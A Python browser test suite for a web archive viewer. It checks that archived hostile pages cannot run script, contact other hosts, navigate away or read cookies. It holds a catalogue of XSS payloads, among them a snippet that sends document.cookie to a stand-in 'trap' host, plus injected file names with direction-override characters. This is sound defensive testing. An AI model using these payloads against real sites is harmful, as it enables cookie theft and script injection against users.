"""Hostile pages in a real browser: nothing of them runs, reaches another host, leads away, or reads what is ours."""

import socket
import threading
import time
from http.server import BaseHTTPRequestHandler

import pytest
from playwright.sync_api import Error

from gkcrawl import store
from gkcrawl.publish import addresses
from tests import ports
from tests.browser import chromium, looked_at, watched
from tests.publish_fixture import HOST, SECTION, Archive, numbers, page
from tests.publish_server import running

CELL = "requests.received.total"
_RUN = (
    "window.ran=1;document.documentElement.dataset.ran=1;fetch('{trap}/fetch').catch(()=>0);"
    "new Image().src='{trap}/img?'+document.cookie"
)
#: What is put into a page, by what it tries; {trap} is another host.
ATTACKS = {
    "script": "<script>{run}</script>",
    "script from elsewhere": "<script src='{trap}/x.js'></script><script type=module src='{trap}/m.js'></script>",
    "svg": "<svg onload=\"{run}\"><script>{run}</script><use href='{trap}/u.svg#a'/><image href='{trap}/i.png'/></svg>",
    "event handlers": "<img src=x onerror=\"{run}\"><details open ontoggle=\"{run}\">x</details>"
    "<body onpageshow=\"{run}\">"
    "<input autofocus onfocus=\"{run}\"><video><source onerror=\"{run}\"></video>",
    "meta refresh": "<meta http-equiv=refresh content='0;url={trap}/refresh'>",
    "base": "<base href='{trap}/'><img src=relative.png><link rel=stylesheet href=relative.css>",
    "form": "<form action='{trap}/form' method=post><input name=a value=b><button id=push>send</button></form>"
    "<form action='javascript:{run}'><button id=push2>run</button></form>",
    "frames": "<iframe src='{trap}/frame'></iframe><iframe srcdoc=\"<script>parent.ran=1;{run}</script>\"></iframe>"
    "<object data='{trap}/o.html'></object><embed src='{trap}/e.svg'><frameset><frame src='{trap}/f'></frameset>",
    "javascript links": "<a id=push href=\"javascript:{run}\">go</a>"
    "<a id=push2 href='data:text/html,<script>1</script>'>go</a>"
    "<map name=m><area href='javascript:{run}'></map>",
    "service worker": f"<script>navigator.serviceWorker.register('/web/20260105030001id_/http://{HOST}/sw.js');"
    "{run}</script>",
    "other requests": "<link rel=stylesheet href='{trap}/s.css'>"
    "<style>@import '{trap}/i.css';body{{background:url({trap}/b.png)}}"
    "@font-face{{font-family:q;src:url({trap}/f.woff)}}p{{font-family:q}}</style>"
    "<img src='{trap}/i.png' srcset='{trap}/2.png 2x'>"
    "<audio src='{trap}/a.mp3' autoplay></audio><video poster='{trap}/p.png'></video>"
    "<link rel=prefetch href='{trap}/p'>"
    "<link rel=preload as=script href='{trap}/p.js'><link rel=dns-prefetch href='{trap}'>"
    "<link rel=preconnect href='{trap}'>"
    "<link rel=icon href='{trap}/icon.png'><link rel=manifest href='{trap}/m.json'>"
    "<a ping='{trap}/ping' id=push href='#x'>x</a>",
    "popups": "<a id=push target=_blank href='{trap}/popup'>go</a><script>open('{trap}/popup')</script>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content='script-src *'><script>{run}</script>",
    "the bar's own names": "<div id=gkcrawl-bar onclick=\"{run}\"></div>"
    "<style>#gkcrawl-bar{{display:none!important}}</style>"
    "<td id=gkcrawl-cell><script>{run}</script></td>",
}
#: Bodies that are no pages, with their type.
FILES = {
    "plain": ("text/plain; charset=utf-8", "<html><script>{run}</script></html>"),
    "no type": ("", "<html><script>{run}</script></html>"),
    "svg": ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run}\"><script>{run}</script></svg>"),
    "xml": ("application/xml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script></html>"),
    "xhtml": ("application/xhtml+xml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script></html>"),
    "mhtml": ("multipart/related", "<html><script>{run}</script></html>"),
    "javascript": ("application/javascript", "{run}"),
    "picture": ("image/png", "<html><script>{run}</script></html>"),
    "not found": ("text/html", "<script>{run}</script>"),
}


class Trap(BaseHTTPRequestHandler):
    """The other host: notes what reaches it, and serves an attack as it is, for comparison."""

    seen: list[str] = []
    pages: dict[str, bytes] = {}

    def do_GET(self):  # noqa: N802
        body = self.pages.get(self.path)
        if body is None:
            self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(body or b"")

    do_POST = do_HEAD = do_GET  # noqa: N815

    def log_message(self, *_):
        """Say nothing."""



@pytest.fixture(scope="module")
def trap():
    with ports.answering(Trap) as address:
        yield address


class Door:
    """Yet another host: counts who connects, whether or not they say a word, as when a page has its host prepared."""

    def __init__(self):
        self.seen, self._socket = 0, socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._wait, daemon=True).start()

    def _wait(self):
        while True:
            try:
                self._socket.accept()[0].close()
            except OSError:
                return
            self.seen += 1

    def close(self):
        self._socket.close()


@pytest.fixture
def doors():
    """A host for each way to have one prepared for."""
    made = {name: Door() for name in PREPARED}
    yield made
    for door in made.values():
        door.close()


@pytest.fixture(scope="module")
def browser():
    with chromium() as started:
        yield started


def filled(text: str, trap: str) -> str:
    return text.format(trap=trap, run=_RUN.format(trap=trap))


def attacking(attack: str, trap: str, title: str) -> str:
    """A report with an attack in its head and at its end."""
    return page(title, numbers(), extra=filled(attack, trap)).replace("<head>", f"<head>{filled(attack, trap)}")


@pytest.fixture(scope="module")
def web(tmp_path_factory, trap):
    """An archive of hostile reports, pages and files, served."""
    directory = tmp_path_factory.mktemp("archive")
    made = Archive(directory)
    for at, (name, attack) in enumerate(ATTACKS.items()):
        title = f"太原市小店区{'甲乙丙丁戊己庚辛壬癸子丑寅卯'[at]}局2023年政府信息公开工作年度报告"
        made.keep(name, f"{SECTION}{at}.html", attacking(attack, trap, title), via=SECTION, anchor=title)
    for name, (mime, body) in FILES.items():
        made.keep(f"file {name}", f"http://{HOST}/{name.replace(' ', '')}", filled(body, trap), mime=mime, role="way",
                  status=404 if name == "not found" else 200)
    made.keep("sw", f"http://{HOST}/sw.js", "self.onfetch = () => 1", mime="text/javascript", role="script")
    name = "太原市小店区<img src=x onerror=ran=1>\u202eFDP.局2023年政府信息公开工作年度报告"
    address = f"{SECTION}\"><script>ran=1</script>/\u202egpj.html?'-ran=1-'"
    made.keep("names", address, page(name, numbers()), via=SECTION, anchor=name)
    made.keep("file names", f"{SECTION}\u202ecod.<script>ran=1</script>.pdf", b"%PDF-1.4 %%EOF", mime="application/pdf",
              role="attachment", via=SECTION + "0.html", anchor="附件\u202efdp.exe<script>ran=1</script>")
    made.writer.close()
    store.file(directory, jobs=1)
    with running(directory, made.captures) as served:
        yield served


def base(web) -> str:
    return f"http://127.0.0.1:{web.port}"


def where(web, name: str, way: str) -> str:
    capture = web.captures[name]
    return base(web) + {
        "short": f"/a/{capture.id}",
        "evidence": f"/a/{capture.id}/{CELL}",
        "web": addresses.web(capture.fetched_at, capture.url),
        "raw": addresses.web(capture.fetched_at, capture.url, raw=True),
    }[way]


def cookies(web) -> list[dict]:
    """A cookie of Datasette's as a script of its pages could read it."""
    return [{"name": "ds_probe", "value": "secret", "url": base(web)}]


_SEEN = """() => {
  const tried = read => { try { return String(read()) } catch (error) { return "refused: " + error.name } };
  return {ran: String(window.ran), marked: String(document.documentElement.dataset.ran), origin: window.origin,
          cookie: tried(() => document.cookie), storage: tried(() => localStorage.length)};
}"""


def nothing_happened(web, seen, address: str) -> None:
    """Assert that a page has not run, reached out, led away or read anything."""
    assert seen.hosts <= {f"127.0.0.1:{web.port}"}, [(one.url, one.failure) for one in seen.requests]
    assert not seen.dialogs and not seen.popups and not Trap.seen
    assert seen.page.url.partition("#")[0] in (address, "about:blank"), seen.page.url
    for frame in seen.page.frames:
        found = frame.evaluate(_SEEN)
        assert found["ran"] == found["marked"] == "undefined", found
    if seen.page.url != "about:blank":
        found = seen.page.evaluate(_SEEN)
        assert found["origin"] == "null" and found["cookie"].startswith("refused"), found
        assert found["storage"].startswith("refused"), found


def pushed(seen) -> None:
    """Click what is there to be clicked, as far as the page lets it."""
    try:
        for name in ("push", "push2"):
            for one in seen.page.query_selector_all(f"#{name}"):
                one.dispatch_event("click")
                seen.page.wait_for_timeout(30)
    except Error as error:
        assert "navigation" in str(error)


@pytest.mark.parametrize("way", ["short", "evidence", "web", "raw"])
@pytest.mark.parametrize("name", list(ATTACKS))
def test_a_hostile_page_does_nothing(web, browser, name, way):
    Trap.seen.clear()
    address = where(web, name, way)
    with watched(browser, cookies=cookies(web)) as seen:
        assert seen.open(address, settle=400 if name == "meta refresh" else 60)
        nothing_happened(web, seen, address)
        pushed(seen)
        nothing_happened(web, seen, address)
        assert not seen.page.context.service_workers
        if way != "raw":
            bars = seen.page.locator("#gkcrawl-bar", has_text="存档副本").all()
            assert [one.is_visible() for one in bars] == [True]


def until(seen, true) -> bool:
    """Wait until something is so, for as long as a busy machine may take; say whether it became so."""
    for _ in range(600):
        if true():
            return True
        seen.page.wait_for_timeout(50)
    return False


@pytest.mark.parametrize("name", list(ATTACKS))
def test_the_attacks_are_attacks(browser, name):
    """Without our headers the same pages do run and reach out, so that the tests above do show something."""
    class Own(Trap):
        seen, pages = [], {}

    with ports.answering(Own) as trap, watched(browser) as seen:
        Own.pages["/attack"] = attacking(ATTACKS[name], trap, "练习").encode()
        seen.open(f"{trap}/attack")
        if not seen.page.url.endswith("/refresh"):
            pushed(seen)
        assert until(seen, lambda: Own.seen or seen.popups)


@pytest.mark.parametrize("way", ["short", "web", "raw"])
@pytest.mark.parametrize("name", list(FILES))
def test_a_hostile_file_is_no_page(web, browser, name, way):
    Trap.seen.clear()
    address = where(web, f"file {name}", way)
    with watched(browser, cookies=cookies(web)) as seen:
        if seen.open(address, settle=100):
            nothing_happened(web, seen, address)
            if name in ("plain", "javascript"):
                assert seen.page.evaluate("document.contentType") == "text/plain"
                assert "window.ran" in seen.page.locator("body").inner_text()
        else:
            assert seen.hosts <= {f"127.0.0.1:{web.port}"} and not Trap.seen


def test_an_archived_script_is_no_service_worker_and_no_script(web, browser):
    capture = web.captures["sw"]
    for raw in (True, False):
        path = addresses.web(capture.fetched_at, capture.url, raw)
        with watched(browser) as seen:
            seen.open(base(web) + "/gkcrawl")
            said = seen.page.evaluate(
                """async path => { try { await navigator.serviceWorker.register(path); return "registered" }
                   catch (error) { return error.name } }""",
                path,
            )
            assert said == "SecurityError" and not seen.page.context.service_workers
            loaded = seen.page.evaluate(
                """path => new Promise(done => { const one = document.createElement("script"); one.src = path;
                   one.onload = () => done("ran"); one.onerror = () => done("refused"); document.head.append(one) })""",
                path,
            )
            assert loaded == "refused"


def test_names_are_only_names(web, browser):
    """HTML and direction overrides in titles, addresses and file names, on our pages and Datasette's."""
    for at in ("names", "file names"):
        identity = web.captures[at].id
        for path in (f"/a/{identity}", f"/a/{identity}/cite", f"/a/{identity}/{CELL}", f"/gkcrawl/captures/{identity}",
                     "/gkcrawl/captures", "/gkcrawl/reports", "/gkcrawl/attachments", "/region/140105", "/"):
            with watched(browser) as seen:
                if not seen.open(base(web) + path):
                    assert not any(mark in name for name in seen.downloads for mark in "\u202e<>\"")
                    continue
                assert seen.page.evaluate("String(window.ran)") == "undefined" and not seen.dialogs, path
                assert not seen.page.query_selector("img[onerror]") and seen.hosts == {f"127.0.0.1:{web.port}"}
                if "/gkcrawl/" not in path and not path.endswith((identity, CELL)):
                    assert "\u202e" not in seen.page.inner_text("body") + seen.page.title(), path


def report(web, browser, name: str) -> str:
    with watched(browser) as seen:
        seen.open(f"{base(web)}/a/{web.captures[name].id}/cite")
        return seen.page.get_attribute("a[href^='/report/']", "href")


@pytest.mark.parametrize("width", [1280, 390])
def test_our_pages_load_nothing_from_elsewhere_and_log_no_error(web, browser, width):
    identity = web.captures["script"].id
    for path in ("/", report(web, browser, "script"), report(web, browser, "names"), "/region/140105", "/region/",
                 f"/a/{identity}/cite", "/gkcrawl", "/gkcrawl/reports", "/gkcrawl/requests", "/search?q=公开"):
        with watched(browser, width=width) as seen:
            seen.open(base(web) + path, settle=50)
            assert seen.hosts == {f"127.0.0.1:{web.port}"}, (path, [one.url for one in seen.requests])
            assert not seen.errors, (path, seen.errors)
            for summary in seen.page.query_selector_all("details > summary"):
                summary.dispatch_event("click")
            assert not seen.errors, (path, seen.errors)


def test_a_citation_is_copied_by_its_button(web, browser):
    with watched(browser, permissions=["clipboard-read", "clipboard-write"]) as seen:
        seen.open(base(web) + report(web, browser, "script"))
        buttons = seen.page.query_selector_all(".gk-copy")
        assert len(buttons) == 6
        for box in seen.page.query_selector_all(".gk-citation"):
            box.query_selector(".gk-copy").dispatch_event("click")
            text = box.query_selector("pre").text_content()
            assert until(seen, lambda text=text: seen.page.evaluate("navigator.clipboard.readText()") == text)
        assert not seen.errors


def test_without_javascript_a_click_selects_a_citation(web, browser):
    with watched(browser, java_script_enabled=False) as seen:
        seen.open(base(web) + report(web, browser, "script"))
        assert not seen.page.query_selector_all(".gk-copy")
        box = seen.page.locator(".gk-citation pre").first
        box.click()
        assert "[R/OL]" in box.inner_text()


#: Ways to write a link by which a browser connects to a host beforehand; no header of a page's keeps it from that.
PREPARED = {
    "plain": "<link rel=preconnect href=//127.0.0.1:{port}>", "shouted": "<LINK\n REL='x PreConnect' HREF=//127.0.0.1:{port}>",
    "escaped": "<link rel='&#112;re&#x63onnect' href=//127.0.0.1:{port}>", "slashed": "<link/rel='preconnect'/href='//127.0.0.1:{port}'/>",
    "stray quotes": "<link a=x\" b='>' rel=preconnect href=//127.0.0.1:{port}>", "in the body": "</head><body><p><link rel=preconnect href=//127.0.0.1:{port}>",
}


@pytest.mark.parametrize("coding", ["utf-8", "utf-16"])
def test_no_host_is_prepared_for(tmp_path, doors, coding):
    """In a Chromium as a reader has it: one that is steered prepares for no host in any case."""
    attacks = "".join(attack.format(port=doors[name].port) for name, attack in PREPARED.items())
    made = Archive(tmp_path)
    body = page("太原市小店区甲局2023年政府信息公开工作年度报告", numbers()).replace("<head>", f"<head>{attacks}").encode(coding)
    found = made.keep("page", f"{SECTION}1.html", body, via=SECTION, anchor="报告")
    made.writer.close()
    store.file(tmp_path, jobs=1)
    with running(tmp_path, made.captures) as web:
        for path in (addresses.web(found.fetched_at, found.url), addresses.web(found.fetched_at, found.url, raw=True),
                     f"/a/{found.id}/{CELL}"):
            assert "年度报告" in looked_at(f"http://127.0.0.1:{web.port}{path}", tmp_path / "reader")
    assert [name for name, door in doors.items() if door.seen] == []

    class Own(Trap):
        seen, pages = [], {"/late": b""}

        def do_GET(self):  # noqa: N802
            for _ in range(80):     # a page that has loaded is left, whether its hosts are prepared by then or not
                if self.path != "/late" or all(door.seen for door in doors.values()):
                    break
                time.sleep(0.05)
            super().do_GET()

    Own.pages["/page"] = body.decode(coding).replace("</body>", "<img src=/late></body>").encode(coding)
    with ports.answering(Own) as base:
        looked_at(f"{base}/page", tmp_path / "reader")
    assert [name for name, door in doors.items() if not door.seen] == [], "these are no attacks"
